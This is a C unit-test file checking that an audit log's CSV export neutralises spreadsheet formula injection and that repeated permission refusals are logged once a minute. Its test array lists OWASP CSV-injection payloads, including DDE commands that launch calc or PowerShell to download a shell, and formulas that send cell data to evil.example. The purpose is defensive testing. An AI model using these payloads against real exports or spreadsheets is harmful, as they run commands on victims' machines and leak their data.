/* check_audit.c — the audit log: its CSV export, read back against the OWASP list
 * of CSV-injection payloads (every cell a spreadsheet could run as a formula, after
 * a separator or a blank, leaves as text with a leading apostrophe; plain text
 * leaves unchanged), and how often a refusal is kept. */
#include "config.h"

#include <check.h>
#include <string.h>

#include "audit.h"
#include "db_sql.h"
#include "suites.h"
#include "testlib.h"

#define NOW 1800000000

static struct db *db;

static void setup(void)
{
	char err[256];

	db = db_open(":memory:", 1, err, sizeof(err));
	ck_assert_msg(db != NULL, "%s", err);
}

static void teardown(void)
{
	db_close(db);
	db = NULL;
}

static void collect(void *arg, const char *data, size_t len)
{
	buf_append(arg, data, len);
}

/* The CSV export of the one row whose actor is text (its detail too). */
static void export_of(const char *text, struct buf *csv)
{
	struct audit_actor actor = { 0, text, "192.0.2.1" };
	struct audit_filter f = { NULL, text, 0, 0 };

	ck_assert_int_eq(TESTLIB_WRITE(db, audit_write(db, &actor, NOW, "login.failed", "", text)),
			 ST_OK);
	buf_reset(csv);
	ck_assert_int_eq(audit_export(db, &f, AUDIT_CSV, collect, csv), ST_OK);
	buf_putc(csv, '\0');
}

/* text as a quoted CSV cell, behind `lead` ("\"" or "\"'"). */
static char *quoted(const char *lead, const char *text)
{
	struct buf b = { NULL, 0, 0 };

	buf_puts(&b, lead);
	for (; *text; text++) {
		if (*text == '"')
			buf_putc(&b, '"');
		buf_putc(&b, *text);
	}
	buf_puts(&b, "\"");
	buf_putc(&b, '\0');
	return b.data;
}

static const char *const payloads[] = {
	"=1+2",
	"+1",
	"-1",
	"@SUM(1)",
	"=1+2;=1+2",
	"x;=1+2;y",
	"x,=1+2",
	"x, =1+2",
	"x\t=1+2",
	"x;\xc2\xa0=1+2",
	" =1",
	"  +1",
	"\xc2\xa0=1",
	"\xe2\x80\x83=1",
	"\xef\xbb\xbf=1",
	"\t=1",
	"\t",
	"\r=1",
	"\n=1",
	"a\n-1",
	"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click here\")",
	"=cmd|' /C calc'!A0",
	"=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
	"+cmd|' /C notepad'!'A1'",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	"=10+20+cmd|' /C calc'!A0",
	"=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
	"=WEBSERVICE(\"http://evil.example/\"&A1)",
	"alice@example.com;=1+2",
};

START_TEST(each_owasp_payload_leaves_as_text)
{
	struct buf csv = { NULL, 0, 0 };

	for (size_t i = 0; i < sizeof(payloads) / sizeof(payloads[0]); i++) {
		char *cell = quoted(",\"'", payloads[i]);

		export_of(payloads[i], &csv);
		ck_assert_msg(strstr(csv.data, cell) != NULL, "payload %zu not defused:\n%s", i,
			      csv.data);
		free(cell);
	}
	buf_free(&csv);
}
END_TEST

static const char *const plain[] = {
	"alice@example.com",
	"unknown (#0123456789ab)",
	"Disabled the inbox; its owner was told, and nothing else changed.",
	"3 attempts - 2 left",
	"a+b=c",
	"::1",
	"",
};

START_TEST(plain_text_leaves_unchanged)
{
	struct buf csv = { NULL, 0, 0 };

	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
		char *cell = quoted(",\"", plain[i]);
		char *defused = quoted("\"'", plain[i]);

		export_of(plain[i], &csv);
		ck_assert_msg(strstr(csv.data, cell) != NULL, "\"%s\" changed:\n%s", plain[i], csv.data);
		ck_assert_msg(strstr(csv.data, defused) == NULL, "\"%s\" defused:\n%s", plain[i],
			      csv.data);
		free(cell);
		free(defused);
	}
	buf_free(&csv);
}
END_TEST

/* --- refusals ------------------------------------------------------------------ */

static int refuse(long long user_id, const char *name, const char *addr, time_t at)
{
	struct audit_actor a = { user_id, name, addr };
	int written = -1;

	ck_assert_int_eq(TESTLIB_WRITE(db, audit_write_refusal(db, &a, at, "permission.denied",
							       "/admin/audit", "not_allowed", 60,
							       &written)),
			 ST_OK);
	return written;
}

/* A user reloading a page they may not see writes one row a minute, wherever
 * they come from; another user, or someone not signed in, has rows of their own. */
START_TEST(a_signed_in_users_refusals_are_kept_once_a_minute)
{
	ck_assert_int_eq(testlib_sql_int(db, "SELECT count(*) FROM users"), 0);
	sqlite3_exec(db_handle(db),
		     "INSERT INTO users (id, email, role, password_hash, created_at, updated_at) VALUES "
		     "(1, 'a@example.com', 'user', 'x', 0, 0), (2, 'b@example.com', 'user', 'x', 0, 0)",
		     NULL, NULL, NULL);
	ck_assert_int_eq(refuse(1, "a@example.com", "192.0.2.1", NOW), 1);
	for (int i = 1; i < 30; i++)
		ck_assert_int_eq(refuse(1, "a@example.com", i % 2 ? "192.0.2.1" : "198.51.100.2", NOW + i),
				 0);
	ck_assert_int_eq(refuse(2, "b@example.com", "192.0.2.1", NOW + 30), 1);
	ck_assert_int_eq(refuse(0, "anonymous", "192.0.2.1", NOW + 30), 1);
	ck_assert_int_eq(refuse(0, "anonymous", "192.0.2.1", NOW + 31), 0);
	ck_assert_int_eq(refuse(1, "a@example.com", "192.0.2.1", NOW + 61), 1);
	ck_assert_int_eq(testlib_sql_int(db, "SELECT count(*) FROM audit_log"), 4);
}
END_TEST

Suite *audit_suite(void)
{
	Suite *s = suite_create("audit");
	TCase *tc = tcase_create("csv");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, each_owasp_payload_leaves_as_text);
	tcase_add_test(tc, plain_text_leaves_unchanged);
	suite_add_tcase(s, tc);
	tc = tcase_create("refusals");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, a_signed_in_users_refusals_are_kept_once_a_minute);
	suite_add_tcase(s, tc);
	return s;
}
